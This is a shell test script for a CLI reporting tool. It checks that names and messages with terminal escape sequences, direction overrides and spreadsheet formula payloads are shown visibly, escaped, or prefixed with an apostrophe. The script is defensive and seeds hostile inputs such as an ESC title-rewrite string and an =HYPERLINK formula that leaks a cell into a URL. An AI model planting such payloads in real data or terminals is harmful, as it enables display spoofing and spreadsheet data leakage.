# test_injection.sh — text from the store never controls the terminal or a
# spreadsheet: names with ESC, BEL, C1 controls and direction overrides are
# shown visibly in text and md, escaped in json, made safe in csv (and
# formula-looking text prefixed with '), unless --csv-raw; messages that
# echo user bytes do the same.
. tests/cli/lib.sh
export TZ=UTC LC_ALL=C.UTF-8 CXTOP_SCORING=src/config/scoring.yaml XDG_CONFIG_HOME=/nonexistent-cxtop-config

DB=$WORK/inj.db
cp sample.db "$DB"
sqlite3 "$DB" "
UPDATE agents SET name = 'Jyrki' || char(27) || '[2J' WHERE id = (SELECT min(id) FROM agents);
UPDATE agents SET team = 'Tiimi' || char(155) || 'x' || char(8238) || 'y' || char(13) WHERE id = (SELECT max(id) FROM agents);
UPDATE settings SET value = char(27) || ']0;pwned' || char(7) WHERE key = 'company_name';
UPDATE campaigns SET name = '=1+2' WHERE id = (SELECT min(id) FROM campaigns);
UPDATE carrier_claims SET carrier = '@cmd' WHERE id % 2 = 0;
UPDATE carrier_claims SET carrier = '-2+3' WHERE id % 2 = 1;"

# controls FILE: how many lines of FILE hold a raw ESC, BEL, C1 (U+009B),
# RLO, or a CR other than a csv line's CRLF.
controls() {
	sed 's/\r$//' "$1" >"$1.lines"
	n=0
	for b in '\033' '\007' '\015' '\302\233' '\342\200\256'; do
		c=$(grep -c "$(printf "$b")" "$1.lines")
		n=$((n + c))
	done
	echo "$n"
}
# has TEXT NAME: stdout holds TEXT, as it is (no pattern).
has() {
	if grep -Fq -- "$1" "$OUT"; then ok "$2"; else not_ok "$2" "stdout lacks '$1'"; fi
}

for r in agents campaigns claims leaderboard summary; do
	for f in text md json csv; do
		"$CXTOP" report "$r" --format "$f" "$DB" >"$WORK/out" 2>"$WORK/err"
		n=$(controls "$WORK/out")
		m=$(controls "$WORK/err")
		if [ "$n" -eq 0 ] && [ "$m" -eq 0 ]; then
			ok "report $r --format $f writes no terminal control"
		else
			not_ok "report $r --format $f writes no terminal control" "$n in the output, $m in stderr"
		fi
	done
done

"$CXTOP" report agents "$DB" >"$OUT" 2>"$ERR"
has 'Jyrki^[[2J ' "an ESC in a name shows as ^["
has 'Tiimi<U+009B>x<U+202E>y^M ' "C1, override and CR show as <U+...> and ^M"
has '^[]0;pwned^G · Agents' "the company name in the title cannot retitle the terminal"

"$CXTOP" report agents --format json "$DB" >"$OUT" 2>"$ERR"
has '"Jyrki\u001B[2J"' "json escapes ESC as \\u001B"
has '"Tiimi\u009Bx\u202Ey\u000D"' "json escapes C1, overrides and CR"

"$CXTOP" report campaigns --format csv "$DB" >"$OUT" 2>"$ERR"
has ",'=1+2," "csv: a name starting with = gets a leading '"
"$CXTOP" report claims --format csv "$DB" >"$OUT" 2>"$ERR"
has "'@cmd,draft," "csv: text starting with @ gets a leading '"
has "'-2+3,draft," "csv: text starting with - gets a leading '"
if grep -q -- ',-[0-9]' "$OUT" || ! grep -q "'-[0-9]*\.[0-9][0-9]," "$OUT"; then
	ok "csv: numbers are never prefixed"
else
	not_ok "csv: numbers are never prefixed"
fi
"$CXTOP" report campaigns --format csv --csv-raw "$DB" >"$OUT" 2>"$ERR"
has ",=1+2," "--csv-raw writes text as stored"

# A negative money cell stays a number: the P&L's net is negative in October 2021.
"$CXTOP" report pnl --from 2021-10-01 --to 2021-10-31 --format csv "$DB" >"$OUT" 2>"$ERR"
if grep -q ",-[0-9][0-9]*\.[0-9][0-9]" "$OUT" && ! grep -q ",'-" "$OUT"; then
	ok "csv: a negative amount is a number, not text"
else
	not_ok "csv: a negative amount is a number, not text"
fi

# Messages that echo what the user typed.
run report agents "$(printf 'x\033[2J.db')"
if grep -Fq "'x^[[2J.db'" "$ERR"; then ok "an ESC in a store name is shown as ^[ on stderr"; else not_ok "an ESC in a store name is shown as ^[ on stderr"; fi
if [ "$(controls "$ERR")" -eq 0 ]; then ok "the message holds no control"; else not_ok "the message holds no control"; fi
run report agents --from "$(printf '2022\033]0;x\007')" "$DB"
if [ "$(controls "$ERR")" -eq 0 ]; then ok "a usage error echoes no control"; else not_ok "a usage error echoes no control"; fi

# Import's messages: a file's name and a refused cell are echoed with their
# controls and direction overrides visible, never raw; the names a store,
# a config or an init are printed under do the same.
"$CXTOP" init "$WORK/imp.db" >/dev/null
evil="$WORK/$(printf 'evil\033[31mRED')"
mkdir -p "$evil"
printf 'name,email,team,hired_on\nAnn\342\200\256evil\342\200\254,a@x.org,T,2022-01-01\n' >"$evil/agents.csv"
run import agents "$evil/agents.csv" "$WORK/imp.db"
if [ "$status" -ne 0 ] && [ "$(controls "$ERR")" -eq 0 ] && grep -Fq 'evil^[[31mRED' "$ERR" &&
	grep -Fq 'Ann<U+202E>evil<U+202C>' "$ERR"; then
	ok "an import's errors show the file's ESC and the cell's direction override visibly"
else not_ok "import errors echo controls raw" "$(od -c "$ERR" | head -5)"; fi
printf 'name,email,team,hired_on\nBob,b@x.org,T,2022-01-01\n' >"$evil/ok.csv"
cp "$WORK/imp.db" "$evil/store.db"
run import agents "$evil/ok.csv" "$evil/store.db"
if [ "$status" -eq 0 ] && [ "$(controls "$OUT")" -eq 0 ] && grep -Fq "store: $WORK/evil^[[31mRED/store.db" "$OUT"; then
	ok "an import says which store it wrote to, its name made safe"
else not_ok "the store an import wrote to" "$(od -c "$OUT" | tail -5)"; fi
run check "$evil/store.db"
if [ "$status" -eq 0 ] && [ "$(controls "$OUT")" -eq 0 ]; then ok "cxtop check prints the store's name made safe"
else not_ok "check echoes the store's name raw"; fi
run init "$evil/new.db"
if [ "$status" -eq 0 ] && [ "$(controls "$OUT")" -eq 0 ]; then ok "cxtop init prints the store's name made safe"
else not_ok "init echoes the store's name raw"; fi

# export: formula-looking text is written after a ' (a spreadsheet shows it
# as text), which import takes off again, so the round trip is exact; on a
# terminal the controls are shown, to a file they are kept.
cp sample.db "$WORK/exp.db"
sqlite3 "$WORK/exp.db" "UPDATE customers SET name = '=HYPERLINK(\"http://x/?a=\"&A1,\"click\")' WHERE id = 1;
	UPDATE customers SET name = '''quoted' WHERE id = 2; UPDATE customers SET name = '@sum, \"x\"' WHERE id = 3;
	UPDATE customers SET name = '-2+3' WHERE id = 4"
run export customers "$WORK/exp.db"
if grep -Fq '"'"'"'=HYPERLINK(""http://x/?a=""&A1,""click"")"' "$OUT" && grep -Fq ",''quoted," "$OUT" &&
	grep -Fq ",'-2+3," "$OUT" && grep -Fq "\"'@sum, \"\"x\"\"\"" "$OUT"; then
	ok "export writes formula-looking text after a '"
else not_ok "export's formula cells" "$(grep -E '^[1-4],' "$OUT")"; fi
cp "$OUT" "$WORK/customers.csv"
"$CXTOP" init "$WORK/back.db" >/dev/null
run import customers "$WORK/customers.csv" "$WORK/back.db"
a=$(sqlite3 "$WORK/exp.db" "SELECT id, name FROM customers WHERE id <= 4")
b=$(sqlite3 "$WORK/back.db" "SELECT id, name FROM customers WHERE id <= 4")
if [ "$status" -eq 0 ] && [ "$a" = "$b" ]; then ok "... and import takes the ' off: the names come back exactly"
else not_ok "export then import changed names" "$a" "$b"; fi
# A control character another program wrote (import would refuse it).
sqlite3 "$WORK/exp.db" "UPDATE customers SET name = 'Evil' || char(27) || ']0;pwn' || char(7) WHERE id = 5"
"$CXTOP" export customers "$WORK/exp.db" >"$WORK/customers.csv"
if [ "$(controls "$WORK/customers.csv")" -gt 0 ]; then ok "export to a file keeps the bytes as stored"
else not_ok "export to a file changed the controls"; fi
if command -v script >/dev/null; then
	script -qec "$CXTOP export customers $WORK/exp.db" /dev/null >"$WORK/tty.out" 2>&1
	if grep -aFq 'Evil^[]0;pwn^G' "$WORK/tty.out" && [ "$(grep -ac "$(printf '\033')" "$WORK/tty.out")" -eq 0 ]; then
		ok "export to a terminal shows the controls, never sends them"
	else not_ok "export to a terminal" "$(grep -a pwn "$WORK/tty.out" | od -c | head -3)"; fi
else ok "# skip: no script(1) to give export a terminal"; fi
